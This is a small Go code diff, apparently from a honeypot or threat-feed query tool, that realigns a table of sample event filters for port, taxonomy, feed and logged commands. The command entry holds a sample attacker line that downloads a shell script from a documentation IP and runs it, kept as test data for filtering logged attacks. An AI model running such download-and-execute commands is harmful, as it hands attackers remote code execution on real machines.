@@ -30,7 +30,7 @@ var eventColumns = map[string]struct {
 	"port":     {query.EventsScans, "TCP/22", func(f query.Filters) any { return f.Port }, []int64{22}},
 	"taxonomy": {query.EventsFeeds, "information-gathering", func(f query.Filters) any { return f.Taxonomy }, []string{"information-gathering"}},
 	"feed":     {query.EventsFeeds, "Scan-SSH", func(f query.Filters) any { return f.Feed }, []string{"Scan-SSH"}},
-	"command":  {query.EventsCommands, "wget http://198.51.100.9/x.sh; sh x.sh", func(f query.Filters) any { return f.Command },
+	"command": {query.EventsCommands, "wget http://198.51.100.9/x.sh; sh x.sh", func(f query.Filters) any { return f.Command },
 		[]string{"wget http://198.51.100.9/x.sh; sh x.sh"}},
 }
 
